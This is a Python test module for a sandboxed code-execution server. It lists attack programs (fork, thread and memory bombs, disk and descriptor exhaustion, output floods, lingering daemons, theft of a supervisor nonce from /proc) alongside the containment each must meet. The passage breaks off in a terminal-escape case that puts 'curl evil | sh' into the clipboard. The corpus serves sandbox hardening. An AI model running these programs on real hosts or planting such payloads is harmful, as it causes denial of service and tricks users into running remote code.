# ruff: noqa: E501  (program lines are data: they stay as written, like tests/corpus)
"""The attack corpus, as data: one program per attack, what must contain it, and the
machine-checked assertions on the outcome.

Each case runs on its own server with output sanitization off
(``runner.sanitization_off``), then ``runner.assert_contained`` proves that nothing of
it is left, the server is healthy and the next execution works. Every case also
checks that the server's canary secret appears nowhere in what the session sent.

Programs report facts on lines ``@@{json}`` (``report(...)`` in the prelude); a case's
``check`` reads them with ``res.r``. The programs never write anything destructive:
kernel interfaces (``/proc/sysrq-trigger``, module loading, ...) are only opened or
called with harmless arguments, so a containment failure shows up as "it opened" or
"it returned 0", never as damage. Network programs first look at the sandbox's
interfaces and routes and make no attempt at all when there is any way out, so no
packet can ever leave this machine.

Placeholders filled in by the test: ``__SERVER_PORT__`` (the server's port),
``__HOST_SENTINEL__`` (a host file no program may change), ``__DOCKER_SOCK__``.
"""

from __future__ import annotations

import asyncio
import dataclasses
import os
from collections.abc import Awaitable, Callable
from typing import Any

from codex.config import Settings
from tests.harness import Transcript
from tests.security.runner import Run, docker_inspect, reports

OK = "ok"
TIMEOUT = "timeout"
RUNTIME_ERROR = "runtime_error"
MEMORY_LIMIT = "memory_limit"
OUTPUT_LIMIT = "output_limit"
CANCELLED = "cancelled"
INTERNAL_ERROR = "internal_error"
FRAME_CHARS = 65536  # largest `output` message (docs/api.md)
DENIED = {"EPERM", "ENOSYS"}  # what the seccomp filter answers


@dataclasses.dataclass
class Result:
    """What a check sees: the transcript, the program's reports, the settings."""

    t: Transcript
    settings: Settings
    extra: dict[str, Any]

    @property
    def output(self) -> str:
        return self.t.output

    @property
    def complete(self) -> dict[str, Any]:
        return self.t.complete

    @property
    def r(self) -> dict[str, Any]:
        return reports(self.t.output)

    def error_event(self) -> dict[str, Any] | None:
        errors = [e for e in self.t.named("error") if "sessionId" in e]
        return errors[-1] if errors else None


Check = Callable[[Result], None]
Hook = Callable[[Run], Awaitable[None]]


@dataclasses.dataclass(frozen=True)
class Case:
    name: str
    attack: str  # one line: what the program tries
    contains: str  # one line: what must contain it
    code: str
    status: frozenset[str]  # acceptable verdicts
    settings: dict[str, Any] = dataclasses.field(default_factory=dict)
    output_has: tuple[str, ...] = ()
    output_lacks: tuple[str, ...] = ()
    signal: str | None = None  # expected `signal` of execution_complete
    check: Check | None = None
    during: Hook | None = None
    stdin: str | None = None
    requires: tuple[str, ...] = ()  # settings not in the spec yet: skip without them
    host_markers: tuple[str, ...] = ()  # no host process may carry these afterwards


def S(*names: str) -> frozenset[str]:
    return frozenset(names)


PRELUDE = r'''
import ctypes, errno, json, os, platform, sys
def report(**kw):
    print("@@" + json.dumps(kw, sort_keys=True, default=str), flush=True)
def errname(exc):
    return errno.errorcode.get(getattr(exc, "errno", None) or 0, type(exc).__name__)
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_NR = {
    "x86_64": dict(ptrace=101, process_vm_readv=310, process_vm_writev=311,
        io_uring_setup=425, io_uring_enter=426, io_uring_register=427, bpf=321,
        keyctl=250, add_key=248, request_key=249, userfaultfd=323, init_module=175,
        finit_module=313, delete_module=176, unshare=272, setns=308, mount=165,
        chroot=161, pivot_root=155, perf_event_open=298),
    "aarch64": dict(ptrace=117, process_vm_readv=270, process_vm_writev=271,
        io_uring_setup=425, io_uring_enter=426, io_uring_register=427, bpf=280,
        keyctl=219, add_key=217, request_key=218, userfaultfd=282, init_module=105,
        finit_module=273, delete_module=106, unshare=97, setns=268, mount=40,
        chroot=51, pivot_root=41, perf_event_open=241),
}[platform.machine()]
def sys_call(name, *args):
    """A raw system call: "ok:<result>" or the errno's name."""
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = _libc.syscall(ctypes.c_long(_NR[name]), *conv)
    if r == -1:
        e = ctypes.get_errno()
        return errno.errorcode.get(e, str(e))
    return "ok:%d" % r
'''

NET_PRELUDE = r'''
import socket
def way_out():
    """Any interface but lo, or any route: then no connection is even attempted."""
    ifaces = [l.split(":")[0].strip() for l in open("/proc/net/dev").read().splitlines()[2:]]
    routes = open("/proc/net/route").read().splitlines()[1:]
    try:
        v6 = [l for l in open("/proc/net/ipv6_route").read().splitlines()
              if l.split()[-1] != "lo"]
    except OSError:
        v6 = []
    found = {"interfaces": [i for i in ifaces if i != "lo"], "routes": routes, "v6routes": v6}
    report(**found)
    return any(found.values())
def attempt(family, kind, addr, timeout=2.0):
    """"connected"/"sent" (containment failed) or the error's name."""
    s = socket.socket(family, kind)
    s.settimeout(timeout)
    try:
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"codex-probe", addr)
            return "sent"
        s.connect(addr)
        return "connected"
    except OSError as e:
        return errname(e)
    finally:
        s.close()
if way_out():
    report(skipped="the sandbox has a network: no connection attempted")
    sys.exit(3)
'''


def prog(body: str, *, net: bool = False) -> str:
    return PRELUDE + (NET_PRELUDE if net else "") + body


# -- checks -----------------------------------------------------------------------------


def _duration_near_limit(res: Result, limit: float | None = None) -> None:
    limit_ms = (limit if limit is not None else res.settings.time_limit) * 1000
    duration = res.complete["durationMs"]
    assert limit_ms - 100 <= duration <= limit_ms + 3000, (
        f"durationMs {duration} is not near the time limit of {limit_ms} ms"
    )


def _all_denied(keys: tuple[str, ...], allowed: set[str] = DENIED) -> Check:
    def check(res: Result) -> None:
        r = res.r
        bad = {k: r.get(k) for k in keys if r.get(k) not in allowed}
        assert not bad, f"not denied with {sorted(allowed)}: {bad} (all: {r})"

    return check


def _nothing_connected(res: Result) -> None:
    r = res.r
    assert "skipped" not in r, f"the sandbox has a way out: {r}"
    assert r["interfaces"] == [] and r["routes"] == [] and r["v6routes"] == [], r
    attempts = {k: v for k, v in r.items() if k.startswith("try ")}
    assert attempts, r
    leaked = {k: v for k, v in attempts.items() if v in ("connected", "sent", "resolved")}
    assert not leaked, f"reached the outside: {leaked}"


def check_fork_counted(res: Result) -> None:
    r = res.r
    assert r["error"] == "EAGAIN", r
    assert r["forks"] < res.settings.pids_limit, r


def check_threads(res: Result) -> None:
    r = res.r
    assert r["error"], r
    assert r["threads"] < res.settings.pids_limit, r


def check_memory(res: Result) -> None:
    done = res.complete
    assert done["signal"] in ("SIGKILL", None), done
    err = res.error_event()
    assert err is not None and err["code"] == MEMORY_LIMIT, res.t.named("error")
    peak = done.get("memoryPeakBytes")
    assert isinstance(peak, int), f"no memoryPeakBytes in {done}"
    assert peak >= res.settings.memory_limit_mb * (1 << 20) // 2, done


def check_shm(res: Result) -> None:
    r = res.r
    cap = res.settings.tmpfs_size_mb << 20
    assert r["written"] <= cap, f"{r['written']} bytes went to /dev/shm, over {cap}"


def check_disk(res: Result) -> None:
    r = res.r
    assert r["error"] in ("ENOSPC", "EFBIG"), r
    assert r["written"] <= res.settings.tmpfs_size_mb << 20, r
    assert r["root_write"] in ("EROFS", "EACCES"), r


def check_inodes(res: Result) -> None:
    r = res.r
    limit = getattr(res.settings, "tmpfs_inodes", 4096)
    assert r["error"] == "ENOSPC", r
    assert r["files"] <= limit, r


def check_fds(res: Result) -> None:
    r = res.r
    limit = getattr(res.settings, "nofile_limit", 256)
    assert r["hard"] <= limit and r["soft"] <= limit, r
    assert r["raised"] is False, r
    assert r["error"] == "EMFILE" and r["opened"] < limit, r


def check_output_limit(res: Result) -> None:
    done, limit = res.complete, res.settings.output_limit_bytes
    assert done["truncated"] is True, done
    assert done["outputBytes"] == limit, done
    assert f"output limit of {limit} bytes" in res.output[-200:], res.output[-300:]
    assert len(res.output.encode()) <= limit + 200, len(res.output)
    err = res.error_event()
    assert err is not None and err["code"] == OUTPUT_LIMIT, res.t.named("error")
    assert done["durationMs"] < res.settings.time_limit * 1000, "stopped by time, not output"
    _frames_bounded(res)


def _frames_bounded(res: Result) -> None:
    sizes = [len(d["output"]) for d in res.t.named("output")]
    assert max(sizes, default=0) <= FRAME_CHARS, max(sizes)


def check_giant_line_under(res: Result) -> None:
    assert res.output == "B" * 900_000, (len(res.output), res.output[:40], res.output[-40:])
    _frames_bounded(res)


def check_binary(res: Result) -> None:
    out = res.output
    assert "END-BINARY" in out
    assert "\ufffd" in out, "invalid bytes must arrive as U+FFFD"
    out.encode("utf-8")  # no lone surrogates: every frame is valid Unicode
    assert res.complete["outputBytes"] > 65536, res.complete


def check_cpu_loop(res: Result) -> None:
    _duration_near_limit(res)
    cpu = res.complete.get("cpuMs")
    assert isinstance(cpu, int), f"no cpuMs in {res.complete}"
    # A loaded machine gives the loop less than its share: only a floor that proves
    # the figure is measured, and the quota's ceiling.
    assert 100 <= cpu <= res.complete["durationMs"] * res.settings.cpus * 1.3 + 300, res.complete


def check_cpu_quota(res: Result) -> None:
    _duration_near_limit(res)
    done = res.complete
    cpu = done.get("cpuMs")
    assert isinstance(cpu, int), f"no cpuMs in {done}"
    assert cpu <= done["durationMs"] * res.settings.cpus * 1.3 + 300, (
        f"{cpu} ms of CPU in {done['durationMs']} ms: over the quota of {res.settings.cpus}"
    )


def check_quick(res: Result) -> None:
    # The daemon prints after 3 s: the session must not have waited for it.
    assert res.complete["durationMs"] < 2500, res.complete


def check_cancelled_quickly(res: Result) -> None:
    assert res.complete["durationMs"] < res.settings.time_limit * 1000 - 500, res.complete


def check_nonce(res: Result) -> None:
    r = res.r
    assert r["own_env_has_nonce"] is False, r
    assert "NONCE-LEAK" not in res.output
    for name in ("environ", "mem"):
        assert r[name] in ("EACCES", "EPERM"), r


def check_secrets(res: Result) -> None:
    r = res.r
    assert r["found"] == [], r["found"]
    assert r["files_scanned"] > 1000, r  # the grep really ran over the filesystem
    for path in ("/etc/shadow", "/etc/gshadow"):
        assert r["readable"].get(path) != "READ", r["readable"]


def check_writable(res: Result) -> None:
    assert res.r["writable"] == ["/tmp/probe"], res.r


def check_privileges(res: Result) -> None:
    r = res.r
    uid = int(r["Uid"].split()[0])
    assert r["Uid"].split() == [str(uid)] * 4, r
    assert uid >= res.settings.sandbox_uid_base, r  # a sandbox uid, no host user's
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(r[cap], 16) == 0, (cap, r[cap])
    assert r["NoNewPrivs"] == "1", r
    assert r["Seccomp"] == "2", r
    for attempt in ("setuid", "setgid", "setgroups", "setresuid", "chown"):
        assert r[attempt] == "EPERM", (attempt, r)
    assert r["suid_mount_rc"] != 0, r


def check_namespaces(res: Result) -> None:
    r = res.r
    for key in ("unshare_user", "unshare_mnt", "unshare_net", "unshare_pid"):
        assert r[key] in DENIED, (key, r)
    for key in ("mount_tmpfs", "mount_proc", "chroot", "setns_mnt", "pivot_root"):
        assert not str(r[key]).startswith("ok"), (key, r)
    assert r["unshare_cmd_rc"] != 0, r


def check_ptrace(res: Result) -> None:
    r = res.r
    for key in (
        "ptrace_traceme",
        "ptrace_attach_init",
        "ptrace_attach_parent",
        "process_vm_readv",
        "process_vm_writev",
    ):
        assert r[key] in DENIED, (key, r)


def check_kernel_files(res: Result) -> None:
    opened = {k: v for k, v in res.r.items() if v == "OPENED"}
    assert not opened, opened


def check_core(res: Result) -> None:
    r = res.r
    assert r["hard"] == 0 and r["soft"] == 0, r
    assert r["raised"] is False, r
    assert r["core_dumped"] is False, r
    assert r["cores"] == [], r


def check_sockets(res: Result) -> None:
    r = res.r
    assert r["present"] == [], r
    assert r["sockets_on_disk"] == [], r
    leaked = {k: v for k, v in r.items() if k.startswith("try ") and v == "connected"}
    assert not leaked, leaked


def check_recon(res: Result) -> None:
    r = res.r
    assert r["hostname"] == "sandbox", r
    assert r["uid"] == r["gid"] >= res.settings.sandbox_uid_base, r
    assert r["pid1"].split("\0")[0].endswith("init"), r  # docker-init as PID 1
    assert r["root_ro"] is True, r
    tmp = r["tmp"]
    assert tmp is not None and {"nosuid", "nodev"} <= set(tmp["opts"]), r
    assert tmp["size"] <= res.settings.tmpfs_size_mb << 20, r
    # Only what Docker always binds (read-only): no volumes, no host paths.
    assert r["binds"] == [], r["binds"]
    assert r["rw_mounts"] == ["/tmp"] or set(r["rw_mounts"]) <= {
        "/tmp",
        "/dev/shm",
        "/dev/mqueue",
    }, r
    assert r["net"] == ["lo"], r
    assert r["visible_pids"] <= 6, r  # its own PID namespace


def check_symlinks(res: Result) -> None:
    assert res.r["planted"] >= 5, res.r  # the host sentinel is checked after every case


def check_pid1_log(res: Result) -> None:
    extra = res.extra
    assert extra.get("inspected"), f"the container could not be inspected: {extra}"
    assert extra["log_type"] == "none", extra
    assert extra["log_bytes"] == 0, extra


def check_escapes(res: Result) -> None:
    assert res.complete["exitCode"] == 4, res.complete  # the fake record changed nothing
    # Sanitization is off: the clipboard write reached the client as written (if it did
    # not, the corpus is not testing the raw pipeline).
    assert "\x1b]52;c;" in res.output, "the OSC 52 sequence was filtered: sanitization is on"
    assert res.extra["get_status"] == 200, res.extra
    _frames_bounded(res)


def check_digits(res: Result) -> None:
    assert res.extra["get_status"] == 200, res.extra
    assert res.extra["prompt_seen"], "no input_required after the huge CSI parameters"
    assert "hi bob" in res.output


def check_tiocsti(res: Result) -> None:
    r = res.r
    if r["error"] is None:  # the injection worked: it stayed in the program's own terminal
        assert r["read_back"] == "print('INJECTED-BY-TIOCSTI')", r
    else:
        assert r["error"] in ("EPERM", "EIO", "EACCES"), r


def check_closed_stdin(res: Result) -> None:
    acks = res.extra["acks"]
    assert acks, res.extra
    for ack in acks:
        assert isinstance(ack, dict), ack
        assert "sessionId" in ack or ({"error", "code"} <= set(ack)), ack
        assert ack.get("code") != "internal_error", ack


def check_stdin_flood(res: Result) -> None:
    assert res.extra["sent"] >= 300, res.extra
    acks = res.extra["acks"]
    assert all(a.get("code") != "internal_error" for a in acks if isinstance(a, dict)), acks


def check_input_forever(res: Result) -> None:
    assert res.complete["status"] != OK
    limit = res.settings.input_wait_limit
    assert res.extra["ended_after"] <= limit + 3, res.extra


def check_segv(res: Result) -> None:
    err = res.error_event()
    assert err is not None and "SIGSEGV" in err["error"], res.t.named("error")


def check_sigkill_not_oom(res: Result) -> None:
    assert res.complete["exitCode"] == 137, res.complete


# -- hooks (act while the program runs) --------------------------------------------------


async def interrupt_thrice(run: Run) -> None:
    if await run.wait_output("ignoring"):
        for _ in range(3):
            await run.call("interrupt", {"sessionId": run.session_id})
            await _sleep(0.2)


async def delete_when_ignoring(run: Run) -> None:
    if await run.wait_output("ignoring"):
        resp = await run.h.request("DELETE", f"/api/sessions/{run.session_id}")
        run.extra["delete_status"] = resp.status


async def inspect_log(run: Run) -> None:
    if not await run.wait_output("FLOODED", timeout=20):
        return
    ids = await run.container_ids()
    if not ids:
        return
    info = await _in_thread(docker_inspect, ids[0])
    if info is None:
        return
    run.extra["inspected"] = True
    run.extra["log_type"] = info["HostConfig"]["LogConfig"]["Type"]
    run.extra["log_bytes"] = await _in_thread(_file_size, info.get("LogPath") or "")


def _file_size(path: str) -> int:
    try:
        return os.path.getsize(path) if path else 0
    except OSError:
        return 0


async def get_session_after(run: Run) -> None:
    await run.done.wait()
    loop = _loop()
    start = loop.time()
    resp = await run.h.request("GET", f"/api/sessions/{run.session_id}")
    run.extra["get_status"] = resp.status
    run.extra["get_seconds"] = loop.time() - start


async def answer_after_digits(run: Run) -> None:
    run.extra["prompt_seen"] = await run.wait_for(lambda: bool(run.named("input_required")), 8)
    resp = await run.h.request("GET", f"/api/sessions/{run.session_id}")
    run.extra["get_status"] = resp.status
    await run.call("input", {"input": "bob", "sessionId": run.session_id})


async def poke_closed_stdin(run: Run) -> None:
    acks = run.extra.setdefault("acks", [])
    if await run.wait_output("CLOSED"):
        for _ in range(3):
            acks.append(await run.call("input", {"input": "hello", "sessionId": run.session_id}))
        acks.append(await run.call("eof", {"sessionId": run.session_id}))
        acks.append(await run.call("interrupt", {"sessionId": run.session_id}))


async def flood_input(run: Run) -> None:
    big = "z" * 16384
    run.extra["sent"] = 0
    acks = run.extra.setdefault("acks", [])
    await run.wait_output("READING", timeout=10)
    for _ in range(300):
        await run.sio.emit("input", {"input": big, "sessionId": run.session_id})
        run.extra["sent"] += 1
    acks.append(await run.call("input", {"input": big + "!", "sessionId": run.session_id}))


async def answer_late(run: Run) -> None:
    if await run.wait_for(lambda: bool(run.named("input_required")), 10):
        await _sleep(run.settings.time_limit + 1.0)
        await run.call("input", {"input": "late", "sessionId": run.session_id})


async def time_the_end(run: Run) -> None:
    loop = _loop()
    await run.wait_for(lambda: bool(run.named("input_required")), 10)
    start = loop.time()
    await run.done.wait()
    run.extra["ended_after"] = loop.time() - start


async def _sleep(seconds: float) -> None:
    await asyncio.sleep(seconds)


def _loop() -> asyncio.AbstractEventLoop:
    return asyncio.get_running_loop()


async def _in_thread(fn: Callable[..., Any], *args: Any) -> Any:
    return await _loop().run_in_executor(None, fn, *args)


# -- the programs -----------------------------------------------------------------------

CASES: list[Case] = [
    # -- processes, memory, CPU, time --------------------------------------------------
    Case(
        "fork_bomb",
        "every process forks forever and swallows the failures",
        "pids_limit (fork fails with EAGAIN), then the time limit kills the container",
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n",
        S(TIMEOUT),
        settings={"time_limit": 2},
        check=_duration_near_limit,
    ),
    Case(
        "fork_count",
        "fork sleeping children until fork fails; count them",
        "pids_limit: fork fails with EAGAIN below the limit",
        prog(
            "import time\nn, err = 0, None\nwhile n < 1000:\n"
            "    try:\n        pid = os.fork()\n"
            "    except OSError as e:\n        err = errname(e); break\n"
            "    if pid == 0:\n        time.sleep(60); os._exit(0)\n"
            "    n += 1\nreport(forks=n, error=err)\n"
        ),
        S(OK),
        settings={"pids_limit": 32},
        check=check_fork_counted,
    ),
    Case(
        "thread_bomb",
        "start threads until the interpreter cannot",
        "pids_limit (threads are tasks): the start fails below the limit",
        prog(
            "import threading\nev = threading.Event()\nn, err = 0, None\n"
            "while n < 5000:\n    t = threading.Thread(target=ev.wait, daemon=True)\n"
            "    try:\n        t.start()\n    except RuntimeError as e:\n"
            "        err = str(e); break\n    n += 1\n"
            "report(threads=n, error=err)\nev.set()\n"
        ),
        S(OK),
        settings={"pids_limit": 32},
        check=check_threads,
    ),
    Case(
        "memory_bomb",
        "allocate and touch 16 MiB blocks forever",
        "memory cgroup limit (swap = memory): OOM kill, verdict memory_limit from the kernel",
        "blocks = []\nwhile True:\n    blocks.append(bytearray(16 << 20))\n",
        S(MEMORY_LIMIT),
        settings={"memory_limit_mb": 128},
        check=check_memory,
    ),
    Case(
        "fake_oom_sigkill",
        "SIGKILL itself to pass for an OOM kill (exit 137)",
        "verdict from the kernel's OOM count, never from 137: runtime_error SIGKILL",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
        S(RUNTIME_ERROR),
        signal="SIGKILL",
        check=check_sigkill_not_oom,
    ),
    Case(
        "segfault",
        "dereference NULL through ctypes",
        "runtime_error naming SIGSEGV; nothing else affected",
        "import ctypes\nctypes.string_at(0)\n",
        S(RUNTIME_ERROR),
        signal="SIGSEGV",
        check=check_segv,
    ),
    Case(
        "cpu_loop",
        "spin the CPU forever",
        "time limit (running time): timeout, cpuMs reported",
        "while True:\n    pass\n",
        S(TIMEOUT),
        settings={"time_limit": 2},
        check=check_cpu_loop,
    ),
    Case(
        "cpu_many_processes",
        "four processes spinning to take more than the CPU share",
        "CFS quota (cpus): CPU time at most cpus x wall time; then the time limit",
        "import os\nfor _ in range(3):\n    if os.fork() == 0:\n        break\nwhile True:\n    pass\n",
        S(TIMEOUT),
        settings={"time_limit": 2, "cpus": 0.5},
        check=check_cpu_quota,
    ),
    Case(
        "sleep_forever",
        "sleep for years",
        "time limit (sleeping is not waiting for input): timeout",
        "import time\nprint('sleeping', flush=True)\ntime.sleep(10**8)\n",
        S(TIMEOUT),
        settings={"time_limit": 2},
        check=_duration_near_limit,
    ),
    Case(
        "input_wait_not_counted",
        "wait for input longer than the time limit, then finish",
        "time blocked on input does not count against time_limit: ok",
        "x = input('answer? ')\nprint('got', x)\n",
        S(OK),
        settings={"time_limit": 2},
        output_has=("got late",),
        during=answer_late,
    ),
    Case(
        "input_forever",
        "wait for input forever (an abandoned tab)",
        "input_wait_limit ends the session; the container does not live forever",
        "input('? ')\n",
        S(TIMEOUT),
        settings={"input_wait_limit": 2},
        requires=("input_wait_limit",),
        during=time_the_end,
        check=check_input_forever,
    ),
    Case(
        "double_fork_daemon",
        "double-fork a setsid daemon that outlives the program and prints later",
        "the session ends at the supervisor's record; container removal kills the daemon",
        prog(
            "import time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        os.execvp('sh', ['sh', '-c', 'sleep 3; echo DAEMON-STILL-HERE; sleep 600',"
            " 'codex-sec-daemon-marker'])\n    os._exit(0)\nos.wait()\nprint('main done', flush=True)\n"
        ),
        S(OK),
        output_lacks=("DAEMON-STILL-HERE",),
        host_markers=("codex-sec-daemon-marker",),
        check=check_quick,
    ),
    Case(
        "nohup_background",
        "nohup and `&` background jobs left running after the program",
        "container removal kills every process of the execution",
        "import os, subprocess\n"
        "subprocess.Popen(['nohup', 'sh', '-c', 'sleep 1; echo NOHUP-STILL-HERE; sleep 600',"
        " 'codex-sec-nohup-marker'], start_new_session=True)\n"
        "os.system(\"sh -c 'sleep 600' codex-sec-bgjob-marker &\")\n"
        "print('spawned', flush=True)\n",
        S(OK),
        output_lacks=("NOHUP-STILL-HERE",),
        host_markers=("codex-sec-nohup-marker", "codex-sec-bgjob-marker"),
    ),
    Case(
        "ignored_signals",
        "ignore every catchable signal, then loop; the client presses Ctrl-C",
        "SIGKILL of the container at the time limit: timeout",
        "import signal, time\n"
        "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGTSTP,"
        " signal.SIGTTIN, signal.SIGTTOU, signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE,"
        " signal.SIGALRM, signal.SIGXCPU):\n    signal.signal(s, signal.SIG_IGN)\n"
        "print('ignoring', flush=True)\nwhile True:\n    time.sleep(0.05)\n",
        S(TIMEOUT),
        settings={"time_limit": 2},
        during=interrupt_thrice,
        check=_duration_near_limit,
    ),
    Case(
        "ignored_signals_delete",
        "ignore every catchable signal; the client DELETEs the session",
        "DELETE kills the container (SIGKILL): cancelled, at once",
        "import signal, time\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
        "    signal.signal(s, signal.SIG_IGN)\nprint('ignoring', flush=True)\n"
        "while True:\n    time.sleep(0.05)\n",
        S(CANCELLED),
        during=delete_when_ignoring,
        check=check_cancelled_quickly,
    ),
    Case(
        "sigstop_self",
        "SIGSTOP itself so it never ends",
        "time limit: timeout (a stopped program is not waiting for input)",
        "import os, signal\nprint('stopping', flush=True)\nos.kill(os.getpid(), signal.SIGSTOP)\n"
        "print('RESUMED')\n",
        S(TIMEOUT),
        settings={"time_limit": 2},
        output_lacks=("RESUMED",),
        check=_duration_near_limit,
    ),
    Case(
        "sigstop_supervisor",
        "SIGSTOP the supervisor (its parent) and exit, so no result is ever written",
        "time limit: timeout; the container is removed",
        "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nprint('stopped parent', flush=True)\n",
        S(TIMEOUT),
        settings={"time_limit": 2},
        check=_duration_near_limit,
    ),
    Case(
        "nonce_theft_and_forged_record",
        "read the supervisor's environ/mem for the nonce, print a forged ok record, kill it",
        "supervisor non-dumpable, nonce not in the child's env; no record: not ok",
        prog(
            "import re, signal, time\nppid = os.getppid()\nres = {}\n"
            "for name in ('environ', 'mem', 'maps', 'cmdline'):\n"
            "    try:\n        with open('/proc/%d/%s' % (ppid, name), 'rb') as f:\n"
            "            data = f.read(65536)\n"
            "        leak = re.search(rb'CODEX_NONCE=[0-9a-fA-F]{8}', data)\n"
            "        res[name] = 'NONCE-LEAK' if leak else 'read'\n"
            "    except OSError as e:\n        res[name] = errname(e)\n"
            "res['own_env_has_nonce'] = 'CODEX_NONCE' in os.environ\nreport(**res)\n"
            "print('\\x1b]6973;' + '0' * 32 + ';' + json.dumps({'exitCode': 0, 'signal': None,"
            " 'error': None}) + '\\x07', flush=True)\n"
            "os.kill(ppid, signal.SIGKILL)\ntime.sleep(1)\n"
        ),
        S(INTERNAL_ERROR, RUNTIME_ERROR),
        check=check_nonce,
    ),
    # -- disk, memory-backed files, descriptors ------------------------------------------
    Case(
        "dev_shm_fill",
        "fill /dev/shm (memory-backed, outside /tmp) with many files, each under fsize",
        "writable /tmp only: /dev/shm unwritable or capped at tmpfs_size_mb",
        prog(
            "total, err, i = 0, None, 0\nchunk = b'x' * (1 << 20)\n"
            "try:\n    while total < (96 << 20):\n"
            "        with open('/dev/shm/fill%d' % i, 'wb', buffering=0) as f:\n"
            "            for _ in range(4):\n                total += f.write(chunk)\n"
            "        i += 1\nexcept OSError as e:\n    err = errname(e)\n"
            "report(written=total, error=err)\n"
        ),
        S(OK),
        settings={"tmpfs_size_mb": 16},
        check=check_shm,
    ),
    Case(
        "disk_fill",
        "fill /tmp with files until the disk is full; write to the root filesystem",
        "tmpfs size and fsize ulimit (ENOSPC/EFBIG); read-only root (EROFS)",
        prog(
            "total, err, i = 0, None, 0\nchunk = b'x' * (1 << 20)\n"
            "try:\n    while total < (256 << 20):\n"
            "        with open('/tmp/fill%d' % i, 'wb', buffering=0) as f:\n"
            "            for _ in range(4):\n                total += f.write(chunk)\n"
            "        i += 1\nexcept OSError as e:\n    err = errname(e)\n"
            "try:\n    open('/fill', 'wb').close(); root = 'WROTE'\n"
            "except OSError as e:\n    root = errname(e)\n"
            "report(written=total, error=err, root_write=root)\n"
        ),
        S(OK),
        settings={"tmpfs_size_mb": 16},
        check=check_disk,
    ),
    Case(
        "inode_exhaustion",
        "create empty files in /tmp until it refuses",
        "tmpfs nr_inodes (4096): ENOSPC",
        prog(
            "n, err = 0, None\nos.mkdir('/tmp/i')\n"
            "try:\n    while n < 200000:\n        open('/tmp/i/%d' % n, 'w').close(); n += 1\n"
            "except OSError as e:\n    err = errname(e)\nreport(files=n, error=err)\n"
        ),
        S(OK),
        check=check_inodes,
    ),
    Case(
        "fd_exhaustion",
        "raise RLIMIT_NOFILE, then open files until it refuses",
        "nofile ulimit 256 (hard): EMFILE, and the limit cannot be raised",
        prog(
            "import resource\nsoft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)\n"
            "try:\n    resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)); raised = True\n"
            "except (ValueError, OSError):\n    raised = False\n"
            "fds, err = [], None\ntry:\n    while len(fds) < 1 << 20:\n"
            "        fds.append(os.open('/dev/null', os.O_RDONLY))\n"
            "except OSError as e:\n    err = errname(e)\n"
            "report(soft=soft, hard=hard, raised=raised, opened=len(fds), error=err)\n"
        ),
        S(OK),
        check=check_fds,
    ),
    # -- output --------------------------------------------------------------------------
    Case(
        "output_flood",
        "print lines as fast as possible, forever",
        "output budget: forwarding stops at the limit, kill, notice, truncated: true",
        "while True:\n    print('flood ' * 20)\n",
        S(OUTPUT_LIMIT),
        settings={"output_limit_bytes": 65536},
        check=check_output_limit,
    ),
    Case(
        "giant_line_over_limit",
        "one 32 MiB line with no newline",
        "output budget counts bytes, not lines; frames stay at most 64 Ki chars",
        "import sys\nsys.stdout.write('A' * (32 << 20))\nsys.stdout.flush()\n",
        S(OUTPUT_LIMIT),
        settings={"output_limit_bytes": 65536},
        check=check_output_limit,
    ),
    Case(
        "giant_line_under_limit",
        "one 900 kB line with no newline (under the budget)",
        "framing: delivered whole, in messages of at most 64 Ki chars",
        "import sys\nsys.stdout.write('B' * 900000)\nsys.stdout.flush()\n",
        S(OK),
        check=check_giant_line_under,
    ),
    Case(
        "invalid_utf8_binary",
        "invalid UTF-8 (overlongs, surrogates, > U+10FFFF, truncated), NULs, 64 KiB of binary",
        "incremental decoding with U+FFFD: every message valid Unicode; verdict intact",
        "import random, sys\nout = sys.stdout.buffer\n"
        "out.write(b'\\xff\\xfe\\xc0\\xaf\\xed\\xa0\\x80\\xf4\\x90\\x80\\x80\\x00\\x01\\x7f\\n')\n"
        "out.write(random.Random(1234).randbytes(65536))\nout.write(b'\\n\\xe2\\x82')\n"
        "out.flush()\nout.write(b'\\nEND-BINARY\\n')\nout.flush()\n",
        S(OK),
        check=check_binary,
    ),
    Case(
        "pid1_stdout_flood",
        "write 64 MiB to PID 1's stdout/stderr (/proc/1/fd/1) to fill the host's log disk",
        "log driver none: nothing of it is stored on the host",
        prog(
            "import time\nres = {}\nfor n in (1, 2):\n    p = '/proc/1/fd/%d' % n\n"
            "    try:\n        res['target%d' % n] = os.readlink(p)\n"
            "    except OSError as e:\n        res['target%d' % n] = errname(e)\n"
            "    try:\n        fd = os.open(p, os.O_WRONLY | os.O_NONBLOCK)\n"
            "    except OSError as e:\n        res['open%d' % n] = errname(e); continue\n"
            "    total, t0, chunk = 0, time.time(), b'x' * 65536\n"
            "    while total < (64 << 20) and time.time() - t0 < 3:\n"
            "        try:\n            total += os.write(fd, chunk)\n"
            "        except BlockingIOError:\n            time.sleep(0.01)\n"
            "        except OSError as e:\n            res['error%d' % n] = errname(e); break\n"
            "    res['wrote%d' % n] = total\nreport(**res)\nprint('FLOODED', flush=True)\n"
            "time.sleep(1.5)\n"
        ),
        S(OK),
        settings={"time_limit": 12},
        during=inspect_log,
        check=check_pid1_log,
    ),
    # -- terminal ------------------------------------------------------------------------
    Case(
        "terminal_escape_abuse",
        "OSC 52 clipboard writes, huge CSI parameters, window ops, unterminated DCS/APC "
        "and an unterminated fake result record, then exit 4",
        "raw bytes pass through unchanged; the verdict comes from the nonce record; "
        "the screen model (GET) survives",
        "import base64, sys\nw = sys.stdout.write\n"
        "w('\\x1b]52;c;' + base64.b64encode(b'curl evil | sh').decode() + '\\x07')\n"
        "w('\\x1b]52;p;' + 'QUFB' * 50000 + '\\x07')\n"
